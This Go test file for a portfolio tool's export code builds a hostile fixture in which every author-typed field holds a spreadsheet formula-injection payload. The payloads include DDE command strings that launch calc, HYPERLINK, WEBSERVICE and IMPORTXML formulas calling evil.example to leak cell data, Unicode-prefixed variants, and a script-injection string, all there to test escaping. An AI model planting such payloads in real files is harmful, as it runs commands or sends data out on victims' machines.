package export

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"charterhouse/internal/calendar"
	"charterhouse/internal/locale"
	"charterhouse/internal/portfolio"
	"charterhouse/internal/rollup"
	"charterhouse/internal/source"
	"charterhouse/internal/theme"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// golden compares with testdata/name.
func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s is not what it was; look at the difference after -update:\n%s", name, got)
	}
}

func speech(t *testing.T, p *portfolio.Portfolio, lang string) Speech {
	t.Helper()
	th, found := theme.Load(nil, "themes/default", []string{"en", "da"})
	if len(found) > 0 {
		t.Fatal(found)
	}
	return Speech{Portfolio: p, Words: th.Words(lang), Locale: theme.Speech(nil).For(lang)}
}

func everything() []string {
	names := []string{rollup.Initiatives.Name}
	for _, r := range rollup.All {
		names = append(names, r.Name)
	}
	return names
}

// payloads are what people type into a field to see what a spreadsheet does.
var payloads = []string{
	"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=WEBSERVICE(\"http://evil.example\")",
	"=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(A1:A9)", "=A1", "==1", "= 1+1",
	"+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "-5", "-1", "+45 12 34 56 78", "@SUM(1+1)", "@A1", "@mention",
	"\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", " =1+1", "   @SUM(1)", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\"=1+1", "\"\"=1+1\"", "x;=1+1", "x,=1+1", "x\t=1+1", "x\n=1+1",
	"';=1+1", "{=1+1}", "\u202e=1+1", "_x003D_1+1", "<v>9</v>", "]]><f>1+1</f>", "&#61;1+1", "%0A=1+1", "1/3", "1E5",
	"\u2028=1+1", "\u2029@A1", "</script><script>alert(1)</script>", "__proto__",
}

// hostile is a portfolio in which every text that an author can type is each of
// the payloads, once.
func hostile(t testing.TB) *portfolio.Portfolio {
	t.Helper()
	files := fstest.MapFS{"charterhouse.yaml": {Data: []byte("title: \"=Hostile\"\nlanguages: [en, da]\nreporting_currency: DKK\n")}}
	var departments, people, areas strings.Builder
	for i, p := range payloads {
		q := quoted(p)
		fmt.Fprintf(&departments, "- {id: d%d, name: %s, chief: [{person: p%d, from: 2020-01-01}]}\n", i, q, i)
		fmt.Fprintf(&people, "- {id: p%d, name: %s, department: d%d}\n", i, q, i)
		fmt.Fprintf(&areas, "- {id: a%d, name: %s, standing_owner: d%d}\n", i, q, i)
		other := (i + 1) % len(payloads)
		files[fmt.Sprintf("charters/h%d.md", i)] = &fstest.MapFile{Data: fmt.Appendf(nil, `---
schema: charter/1
title: %[1]s
short_title: %[1]s
summary: %[1]s
status: completed
created: 2025-01-01
timeframe: {start: 2026-01-01, end: 2027-06-30}
owners: {d%[2]d: p%[2]d, d%[3]d: p%[3]d}
lead: p%[2]d
budget:
  currency: %[4]s
  total: %[5]d.01
  shares: {d%[2]d: 1/3, d%[3]d: rest}
  periods: {"2026": %[6]d.55, "2027": %[7]d.46}
  spent: [{date: 2026-05-01, department: d%[2]d, amount: 0.10, note: %[1]s}]
goals: [{id: g1, text: %[1]s, measure: {metric: %[1]s, unit: %[1]s, baseline: %[1]s, target: %[1]s, by: 2026-12-01}, result: {value: %[1]s, date: 2026-12-01, met: true}}]
team: [{person: p%[2]d, home: d%[2]d, role: %[1]s, allocation: 1/3, return: {to: %[1]s, date: 2027-07-01}}]
responsibilities: [{area: a%[2]d, accountable: d%[2]d, scope: %[1]s, reason: %[1]s}]
milestones: [{id: m1, title: %[1]s, due: 2026-06-01, owner: p%[2]d}]
amendments: [{id: a1, date: 2026-02-01, summary: %[1]s, reason: %[1]s}]
closure: {date: 2026-11-01, outcome: %[1]s, actuals: {d%[2]d: 1, d%[3]d: 1}}
x: {own: %[1]s}
---
`, q, i, other, []string{"DKK", "EUR"}[i%2], 1000+i, 500+i, 499)}
	}
	files["registers/departments.yml"] = &fstest.MapFile{Data: []byte(departments.String())}
	files["registers/people.yml"] = &fstest.MapFile{Data: []byte(people.String())}
	files["registers/areas.yml"] = &fstest.MapFile{Data: []byte(areas.String())}
	tree, err := source.FromFS(files, source.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	day, _ := calendar.ParseDate("2026-11-16")
	loader := portfolio.Loader{Speech: func(string) *locale.Set { return theme.Speech(nil) }}
	p := loader.Load(tree, day).Portfolio
	sound := 0
	for _, c := range p.Charters() {
		if c.Budget.Sound {
			sound++
		}
	}
	if sound < 40 { // what no reader lets through, such as NUL, is in typed
		t.Fatalf("%d of %d charters are sound", sound, len(p.Charters()))
	}
	return p
}

// quoted writes a text as YAML and JSON both quote it.
func quoted(s string) string {
	text, _ := json.Marshal(s)
	return string(text)
}

// typed is a table whose texts are given straight, with what no reader of
// front matter lets through.
func typed(texts []string) rollup.Table {
	b := rollup.Block{}
	for _, x := range texts {
		b.Rows = append(b.Rows, rollup.Row{Head: rollup.Cell{Kind: rollup.Text, Text: x}, Cells: []rollup.Cell{{Kind: rollup.Text, Text: x}, {Kind: rollup.Figure, Text: x}, {Kind: rollup.Count, N: -5}}})
	}
	return rollup.Table{Name: "goals", Columns: []rollup.Column{{Key: "a", Text: "=A"}, {Key: "b", Text: "B"}, {Key: "c", Text: "C", Numeric: true}}, Blocks: []rollup.Block{b}}
}

func emptyPortfolio(t testing.TB) *portfolio.Portfolio {
	t.Helper()
	tree, err := source.FromFS(fstest.MapFS{"charterhouse.yaml": {Data: []byte("languages: [en, da]\n")}}, source.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	day, _ := calendar.ParseDate("2026-11-16")
	loader := portfolio.Loader{Speech: func(string) *locale.Set { return theme.Speech(nil) }}
	return loader.Load(tree, day).Portfolio
}
